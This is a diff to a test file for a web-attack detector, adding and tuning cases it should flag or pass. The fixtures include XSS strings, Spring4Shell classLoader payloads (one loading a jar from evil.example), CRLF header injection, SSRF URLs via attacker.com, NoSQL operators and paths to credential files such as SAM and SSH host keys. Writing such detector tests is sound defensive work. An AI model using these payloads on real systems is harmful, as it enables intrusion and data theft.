@@ -818,7 +818,7 @@ t.test("(sixty-first round, tuned on the spent hundred-and-forty-second, -fourth
   for (const v of ["<style>@import 'evil'</style>", "<style>@import'http://0r.pe/xss.css';</style>", '<style>@import url(//evil.example/x);</style>', '<style>@import "x";</style>', '<style lang="scss">@import "//evil.example/x";</style>', '<style lang="scss">@import "http://evil.example/x";</style>', "<style>@import 'x'; body{background:url(javascript:alert(1))}</style>", "<style>@import 'a';</style><img src=x onerror=alert(1)>"]) t.ok(q(v).includes('xss'), v)
 })
 
-t.test('(sixty-second round, the spent hundred-and-thirty-ninth and -forty-third parts\' misses) a field named for the class loader (Spring4Shell); a break after a cookie\'s pairs; `$jsonSchema` in brackets', async (t) => {
+t.test('(sixty-second round, the spent hundred-and-thirty-ninth and -forty-third parts\' misses) a field named for the class loader (Spring4Shell); `$jsonSchema` in brackets', async (t) => {
   const pair = (query: string) => detector.detect({ ...base, query })
   for (const v of [
     'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
@@ -830,11 +830,13 @@ t.test('(sixty-second round, the spent hundred-and-thirty-ninth and -forty-third
   t.ok(q('class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i').includes('rce'), 'in a value too')
   for (const v of ['class.name=x', 'classes.classloader=1', 'classLoader=x', 'myclass.classLoader.x=1']) t.notOk(pair(v).includes('rce'), v)
   for (const v of ['def url = this.class.classLoader.getResource("config.yml")', 'InputStream in = getClass().getClassLoader().getResourceAsStream("a");']) t.notOk(q(v).includes('rce'), v)
-  // a value written into a Set-Cookie line: its pairs, each ended by `; `, then a break and a header
-  for (const v of ['value1; test2=malicious%0d%0aContent-Type: text/html', 'malicious; Set-Cookie: test2=malicious%0d%0aContent-Type: text/html', 'a; b; c\r\nLocation: http://evil.example/']) t.ok(q(v).includes('crlf'), v)
-  for (const v of ['Use a; b\nContent-Type: x', 'hello world; see you\nContent-Type: text', 'a; b']) t.notOk(q(v).includes('crlf'), v)
+  // (review) not a question's or a snippet's `class.classLoader` in a value: only Spring4Shell's own paths there
+  for (const v of ['Why does class.classLoader.getResource() return null in Groovy?', "see class['classLoader'].x", 'def cl = class.classLoader.parent']) t.notOk(q(v).includes('rce'), v)
+  t.ok(q('x=1&class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/').includes('rce'), 'its URLs in a value')
   // `$jsonSchema` in a field's brackets, as `$ne` is read there
   for (const v of ['%5B%24jsonSchema%5D%5Bproperties%5D%5Busername%5D%5Btype%5D=string', 'filter[$jsonSchema][required][0]=password']) t.ok(pair(v).includes('nosqli'), v)
+  // (review) a Markdown link naming the operator, as the manual does, is no operator
+  for (const v of ['See [$jsonSchema](https://www.mongodb.com/docs/manual/reference/operator/query/jsonSchema/) for validation.', 'See [$regex](https://www.mongodb.com/docs/manual/reference/operator/query/regex/).']) t.notOk(q(v).includes('nosqli'), v)
 })
 
 t.test("(sixty-second round, after its measurement, tuned on the spent hundred-and-fifty-first and -second parts) IPv6 literals carrying an internal IPv4 address; a userinfo's `%2F` as the application has it; a PHP class's fully qualified name", async (t) => {
@@ -844,11 +846,21 @@ t.test("(sixty-second round, after its measurement, tuned on the spent hundred-a
   // a public address in the same embeddings, documentation's prefix, a public IPv6 address, and no parameter named for a URL
   for (const v of ['https://[2002:0808:0808::]/x', 'https://[64:ff9b::808:808]/x', 'https://[::8.8.8.8]/x', 'https://[2001:db8::1]/x', 'https://[2606:4700::1111]/x']) t.notOk(pair(`image_url=${encodeURIComponent(v)}`).includes('ssrf'), v)
   t.notOk(pair(`q=${encodeURIComponent('https://[2002:7f00:0001::]/x')}`).includes('ssrf'), 'not under a parameter named for a URL')
+  for (const v of ['https://[2002::]/', 'https://[::2]/']) t.notOk(pair(`image_url=${encodeURIComponent(v)}`).includes('ssrf'), `0.0.0.0/8 embedded, no host: ${v}`)
   // the application receives `http://attacker.com%2F@127.0.0.1/` (sent encoded once more): its parser reads 127.0.0.1 as the host
   t.ok(pair('callback=http%3A%2F%2Fattacker.com%252F%40127.0.0.1%2F').includes('ssrf'), 'a userinfo with an escaped slash')
   t.notOk(pair('callback=http://attacker.com%2F@127.0.0.1/').includes('ssrf'), 'the application has http://attacker.com/@127.0.0.1/: the host is attacker.com')
   // IceHrm's module descriptors name their PHP classes; a system's tree rooted the same way is still a path
-  for (const v of ['\\Loans\\Common\\Model', '\\Loans\\Admin\\Api\\LoansAdminManager', '\\App\\Http\\Controllers\\UserController']) t.same(json({ model_namespace: v }), [], v)
+  for (const v of ['\\Loans\\Common\\Model', '\\Loans\\Admin\\Api\\LoansAdminManager', '\\App\\Http\\Controllers\\UserController']) {
+    t.same(json({ model_namespace: v }), [], v)
+    t.same(json({ manager: v }), [], v)
+    t.ok(json({ path: v }).includes('path_traversal'), `under a key naming a file: ${v}`)
+  }
+  // (review: drive-rooted paths a deny list of the first segment let through — PHP on Windows opens `\a\b` at the current drive's root)
+  for (const v of ['\\laragon\\tmp\\sess_5f2a9c0b1e3d4f6a7b8c9d0e1f2a3b4c', '\\xampp8\\php\\logs\\php_error_log', '\\cygwin64\\etc\\ssh_host_rsa_key', '\\apache24\\conf\\extra', '\\Intel\\Logs\\IntelGFX', '\\proc\\net\\tcp', '\\data\\db\\WiredTiger', '\\ProgramFiles\\X\\Y']) {
+    t.ok(json({ model_namespace: v }).includes('path_traversal'), v)
+    t.ok(json({ path: v }).includes('path_traversal'), v)
+  }
   for (const v of ['\\windows\\system32\\config\\sam', '\\Windows\\System32\\drivers\\etc\\hosts', '\\Users\\Public\\secret', '\\inetpub\\wwwroot\\web.config', '\\xampp\\apache\\conf\\httpd', '\\foo\\..\\..\\windows\\win.ini']) t.ok(q(v).includes('path_traversal'), v)
 })
 
